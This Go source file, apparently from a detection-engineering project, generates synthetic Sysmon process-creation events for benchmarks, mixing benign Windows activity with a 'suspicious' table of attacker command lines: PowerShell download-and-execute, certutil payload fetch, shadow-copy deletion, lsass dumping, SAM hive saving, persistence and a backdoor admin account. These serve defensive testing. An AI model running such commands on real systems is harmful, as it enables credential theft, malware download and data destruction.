// Package synth generates synthetic, realistic-looking events for
// benchmarks and load tests: the shape of real telemetry, with the mix of
// mostly benign and occasionally suspicious activity that real traffic has.
// It must not be used to produce test expectations: nothing here is
// guaranteed to match or not match any particular rule.
package synth

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/vigilsoc/vigil/internal/event"
)

// proc describes one program as Sysmon reports it.
type proc struct {
	image, original, company, product, description string
	// args are command-line tails; %d is replaced with a number, %u with
	// the user's name, %h with a hex string.
	args []string
	// parents index the parents table: who usually starts this program.
	parents []int
}

// benign programs seen on every Windows fleet, weighted by repetition.
var benign = []proc{
	{`C:\Windows\System32\svchost.exe`, "svchost.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Host Process for Windows Services",
		[]string{"-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p -s lmhosts", "-k DcomLaunch -p", "-k UnistackSvcGroup", "-k wsappx -p -s AppXSvc", "-k LocalSystemNetworkRestricted -p -s SysMain"}, []int{1}},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe", "Google LLC", "Google Chrome", "Google Chrome",
		[]string{`--type=renderer --lang=en-US --renderer-client-id=%d --launch-time-ticks=%d --mojo-platform-channel-handle=%d /prefetch:1`, `--type=gpu-process --gpu-preferences=%h --mojo-platform-channel-handle=%d /prefetch:2`, `--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none /prefetch:8`}, []int{0, 3}},
	{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "msedge.exe", "Microsoft Corporation", "Microsoft Edge", "Microsoft Edge",
		[]string{`--type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id=%d /prefetch:1`, `--type=crashpad-handler "--user-data-dir=C:\Users\%u\AppData\Local\Microsoft\Edge\User Data" /prefetch:7`}, []int{0, 6}},
	{`C:\Windows\System32\conhost.exe`, "CONHOST.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Console Window Host",
		[]string{"0xffffffff -ForceV1", "0x4"}, []int{4}},
	{`C:\Windows\System32\RuntimeBroker.exe`, "RuntimeBroker.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Runtime Broker",
		[]string{"-Embedding"}, []int{5}},
	{`C:\Windows\System32\backgroundTaskHost.exe`, "backgroundTaskHost.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Background Task Host",
		[]string{`-ServerName:BackgroundTaskHost.WebAccountProvider`, `-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca`}, []int{5}},
	{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "Outlook.exe", "Microsoft Corporation", "Microsoft Outlook", "Microsoft Outlook",
		[]string{`/recycle`, `-Embedding`}, []int{0}},
	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "WinWord.exe", "Microsoft Corporation", "Microsoft Office", "Microsoft Word",
		[]string{`/n "C:\Users\%u\Documents\Report Q%d.docx" /o ""`}, []int{0}},
	{`C:\Users\%u\AppData\Local\Microsoft\Teams\current\Teams.exe`, "Teams.exe", "Microsoft Corporation", "Microsoft Teams", "Microsoft Teams",
		[]string{`--type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle=%d,%h --lang=en-US /prefetch:1`}, []int{0, 8}},
	{`C:\Program Files\Git\cmd\git.exe`, "git.exe", "The Git Development Community", "Git", "Git for Windows",
		[]string{`status --porcelain`, `fetch origin`, `log --oneline -n %d`, `rev-parse HEAD`}, []int{7, 4}},
	{`C:\Program Files\Python312\python.exe`, "py.exe", "Python Software Foundation", "Python", "Python",
		[]string{`-m pip list`, `C:\Users\%u\src\tools\report_%d.py --out C:\Users\%u\reports`, `manage.py runserver 8000`}, []int{4}},
	{`C:\Windows\System32\SearchProtocolHost.exe`, "searchprotocolhost.exe", "Microsoft Corporation", "Windows® Search", "Microsoft Windows Search Protocol Host",
		[]string{`Global\UsGthrFltPipeMssGthrPipe%d_ Global\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon"`}, []int{9}},
	{`C:\Windows\System32\taskhostw.exe`, "taskhostw.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Host Process for Windows Tasks",
		[]string{`{%h}`, `Install $(Arg0)`}, []int{2}},
	{`C:\Program Files\Microsoft VS Code\Code.exe`, "electron.exe", "Microsoft Corporation", "Visual Studio Code", "Visual Studio Code",
		[]string{`--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle=%d,%h /prefetch:8`}, []int{0}},
	{`C:\Windows\System32\dllhost.exe`, "dllhost.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "COM Surrogate",
		[]string{`/Processid:{%h}`}, []int{5}},
	{`C:\Program Files\Windows Defender\MsMpEng.exe`, "MsMpEng.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Antimalware Service Executable",
		[]string{``}, []int{1}},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows PowerShell",
		[]string{`-NoProfile -File C:\Scripts\inventory_%d.ps1`, `Get-ChildItem C:\Users\%u\Documents | Measure-Object`}, []int{0}},
	{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows Command Processor",
		[]string{`/c "C:\Program Files\Vendor\Agent\update_check.bat"`, `/d /c npm run build`}, []int{0}},
	{`C:\Program Files\Slack\slack.exe`, "slack.exe", "Slack Technologies, Inc.", "Slack", "Slack",
		[]string{`--type=renderer --enable-sandbox --lang=en-US --app-path="C:\Program Files\Slack\resources\app.asar" /prefetch:1`}, []int{0}},
	{`C:\Program Files\7-Zip\7zFM.exe`, "7zFM.exe", "Igor Pavlov", "7-Zip", "7-Zip File Manager",
		[]string{`"C:\Users\%u\Downloads\archive_%d.zip"`}, []int{0}},
}

// suspicious activity of the kind detection rules look for; about one
// event in ten is drawn from here.
var suspicious = []proc{
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows PowerShell",
		[]string{`-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.%d/a.ps1')`}, []int{0, 4}},
	{`C:\Windows\System32\certutil.exe`, "CertUtil.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "CertUtil.exe",
		[]string{`-urlcache -split -f http://203.0.113.%d/payload.exe C:\Users\Public\p.exe`}, []int{0, 4}},
	{`C:\Windows\System32\vssadmin.exe`, "VSSADMIN.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Command Line Interface for Microsoft® Volume Shadow Copy Service ",
		[]string{`delete shadows /all /quiet`}, []int{0, 4}},
	{`C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows host process (Rundll32)",
		[]string{`C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\lsass.dmp full`}, []int{0, 4}},
	{`C:\Windows\System32\whoami.exe`, "whoami.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "whoami - displays logged on user information",
		[]string{`/all`, `/priv`}, []int{0, 4}},
	{`C:\Windows\System32\schtasks.exe`, "schtasks.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Task Scheduler Configuration Tool",
		[]string{`/create /sc minute /mo 5 /tn Updater%d /tr "C:\Users\%u\AppData\Roaming\upd.exe" /f`}, []int{0, 4}},
	{`C:\Windows\System32\reg.exe`, "reg.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Registry Console Tool",
		[]string{`save HKLM\SAM C:\Users\Public\sam.save`, `add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\Users\Public\upd.exe /f`}, []int{0, 4}},
	{`C:\Windows\System32\net.exe`, "net.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Net Command",
		[]string{`user backdoor P@ssw0rd%d /add`, `localgroup administrators backdoor /add`}, []int{0, 4}},
}

var parents = []struct{ image, cmd string }{
	{`C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`},
	{`C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`},
	{`C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe"`},
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`},
	{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"`},
	{`C:\Program Files\Microsoft VS Code\Code.exe`, `"C:\Program Files\Microsoft VS Code\Code.exe"`},
	{`C:\Users\%u\AppData\Local\Microsoft\Teams\current\Teams.exe`, `"C:\Users\%u\AppData\Local\Microsoft\Teams\current\Teams.exe"`},
	{`C:\Windows\System32\SearchIndexer.exe`, `C:\Windows\system32\SearchIndexer.exe /Embedding`},
}

var users = []string{"alice", "bob", "carol", "dave", "erin", "svc_backup", "frank", "grace"}

// ProcessCreation returns n Sysmon event ID 1 (process creation) events
// with log source windows/process_creation, deterministically from seed.
// Roughly 90% are everyday benign activity; the rest imitate attacker
// tradecraft.
func ProcessCreation(n int, seed int64) []*event.Event {
	rng := rand.New(rand.NewPCG(uint64(seed), 0x5eed))
	base := time.Date(2026, 3, 29, 8, 0, 0, 0, time.UTC)
	out := make([]*event.Event, n)
	for i := range out {
		var p proc
		if rng.IntN(10) == 0 {
			p = suspicious[rng.IntN(len(suspicious))]
		} else {
			p = benign[rng.IntN(len(benign))]
		}
		user := users[rng.IntN(len(users))]
		parent := parents[p.parents[rng.IntN(len(p.parents))]]
		parentImage := strings.ReplaceAll(parent.image, "%u", user)
		parentCmd := strings.ReplaceAll(parent.cmd, "%u", user)
		image := strings.ReplaceAll(p.image, "%u", user)
		args := fill(rng, p.args[rng.IntN(len(p.args))], user)
		cmd := `"` + image + `"`
		if args != "" {
			cmd += " " + args
		}
		integrity := "Medium"
		account := `CORP\` + user
		if strings.HasPrefix(image, `C:\Windows\System32\svchost`) || strings.Contains(image, "MsMpEng") {
			integrity, account = "System", `NT AUTHORITY\SYSTEM`
		}
		host := fmt.Sprintf("WS-%04d.corp.example", rng.IntN(500))
		t := base.Add(time.Duration(i) * 37 * time.Millisecond)
		pid := 1000 + rng.IntN(60000)
		ev := &event.Event{
			Time:      t,
			Host:      host,
			Logsource: event.Logsource{Product: "windows", Category: "process_creation"},
			Fields: []event.Field{
				{Name: "EventID", Value: event.N(1)},
				{Name: "Channel", Value: event.S("Microsoft-Windows-Sysmon/Operational")},
				{Name: "Provider_Name", Value: event.S("Microsoft-Windows-Sysmon")},
				{Name: "Computer", Value: event.S(host)},
				{Name: "RuleName", Value: event.S("-")},
				{Name: "UtcTime", Value: event.S(t.Format("2006-01-02 15:04:05.000"))},
				{Name: "ProcessGuid", Value: event.S(guid(rng))},
				{Name: "ProcessId", Value: event.N(float64(pid))},
				{Name: "Image", Value: event.S(image)},
				{Name: "FileVersion", Value: event.S(fmt.Sprintf("10.0.%d.%d", 17763+rng.IntN(5000), rng.IntN(3000)))},
				{Name: "Description", Value: event.S(p.description)},
				{Name: "Product", Value: event.S(p.product)},
				{Name: "Company", Value: event.S(p.company)},
				{Name: "OriginalFileName", Value: event.S(p.original)},
				{Name: "CommandLine", Value: event.S(cmd)},
				{Name: "CurrentDirectory", Value: event.S(`C:\Users\` + user + `\`)},
				{Name: "User", Value: event.S(account)},
				{Name: "LogonGuid", Value: event.S(guid(rng))},
				{Name: "LogonId", Value: event.S("0x" + strconv.FormatUint(rng.Uint64()&0xffffff, 16))},
				{Name: "TerminalSessionId", Value: event.N(float64(rng.IntN(3)))},
				{Name: "IntegrityLevel", Value: event.S(integrity)},
				{Name: "Hashes", Value: event.S(hashes(rng))},
				{Name: "ParentProcessGuid", Value: event.S(guid(rng))},
				{Name: "ParentProcessId", Value: event.N(float64(pid - 1 - rng.IntN(900)))},
				{Name: "ParentImage", Value: event.S(parentImage)},
				{Name: "ParentCommandLine", Value: event.S(parentCmd)},
				{Name: "ParentUser", Value: event.S(account)},
			},
		}
		out[i] = ev
	}
	return out
}

func fill(rng *rand.Rand, s, user string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+1 < len(s) {
			switch s[i+1] {
			case 'd':
				b.WriteString(strconv.Itoa(rng.IntN(100000)))
				i++
				continue
			case 'u':
				b.WriteString(user)
				i++
				continue
			case 'h':
				b.WriteString(strconv.FormatUint(rng.Uint64(), 16))
				i++
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func guid(rng *rand.Rand) string {
	a, b := rng.Uint64(), rng.Uint64()
	return fmt.Sprintf("{%08x-%04x-%04x-%04x-%012x}", uint32(a>>32), uint16(a>>16), uint16(a), uint16(b>>48), b&0xffffffffffff)
}

func hashes(rng *rand.Rand) string {
	hex := func(n int) string {
		var b strings.Builder
		for b.Len() < n {
			fmt.Fprintf(&b, "%016X", rng.Uint64())
		}
		return b.String()[:n]
	}
	return "SHA1=" + hex(40) + ",MD5=" + hex(32) + ",SHA256=" + hex(64) + ",IMPHASH=" + hex(32)
}
